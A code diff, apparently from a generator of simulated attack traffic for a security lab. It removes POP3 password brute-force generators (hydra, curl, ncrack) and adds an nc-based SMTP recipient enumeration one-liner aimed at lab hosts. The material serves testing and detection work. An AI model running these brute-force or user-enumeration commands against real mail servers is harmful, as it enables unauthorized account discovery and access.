@@ -268,23 +268,16 @@ def smtp_users(chance, world):
     return _campaign(aimed, [line], 25, "smtp-users", files, (0, 255, None))
 
 
-@attack("brute-force", "MailBruteForce", "hydra", "pop3")
-def hydra_pop3(chance, world):
-    aimed = aim(chance, world, ("infra",), first=True)
-    user, guesses, subtype = _guesses(chance, chance.randint(10, 40), LABUSER, "pop3")
-    return _hydra(aimed, "pop3", user, guesses, 110, subtype, chance.choice((1, 2, 4)), good=(0, None))
-
-
-@attack("brute-force", "MailBruteForce", "curl", "pop3")
-def curl_pop3(chance, world):
+@attack("brute-force", "MailBruteForce", "nc", "smtp-users")
+def smtp_recipients(chance, world):
+    """Begins a mail to one name after the other, on one connection, and never sends it."""
     aimed = aim(chance, world, ("infra",))
-    user, guesses, subtype = _guesses(chance, chance.randint(7, 25), LABUSER, "pop3")
-    text = [
-        f"curl -sS -m 6 --interface {aimed.source} -u {quote(user + ':' + guess)} pop3://{aimed.at}/"
-        f"; sleep {round(chance.uniform(0, 0.7), 2)}"
-        for guess in guesses
-    ]
-    return _campaign(aimed, text, 110, subtype, good=(0, None))
+    names = words.users(chance, chance.randint(12, 26)) + chance.sample(sorted(SYSTEM_USERS), 2)
+    pause = round(chance.uniform(0.1, 1), 2)
+    talk = "printf 'EHLO mail.example\\r\\nMAIL FROM:<info@mail.example>\\r\\n'; sleep 1"
+    talk += f"; while read name; do printf 'RCPT TO:<%s@corp.example>\\r\\n' $name; sleep {pause}; done < users"
+    line = f"({talk}; printf 'QUIT\\r\\n') | nc -n -N -w 3 -s {aimed.source} {aimed.at} 25"
+    return _campaign(aimed, [line], 25, "smtp-users", {"users": words.lines(names)}, (0, None))
 
 
 _COMMUNITIES = """
@@ -364,13 +357,6 @@ def ncrack_ftp(chance, world):
     aimed = aim(chance, world, ("files",), first=True)
     user, guesses, subtype = _guesses(chance, chance.randint(10, 25), LABUSER, "ftp")
     return _ncrack(chance, aimed, "ftp", user, guesses, 21, subtype)
-
-
-@attack("brute-force", "MailBruteForce", "ncrack", "pop3")
-def ncrack_pop3(chance, world):
-    aimed = aim(chance, world, ("infra",), first=True)
-    user, guesses, subtype = _guesses(chance, chance.randint(10, 25), LABUSER, "pop3")
-    return _ncrack(chance, aimed, "pop3", user, guesses, 110, subtype)
 
 
 def _ncrack(chance, aimed, service, user, guesses, port, subtype):
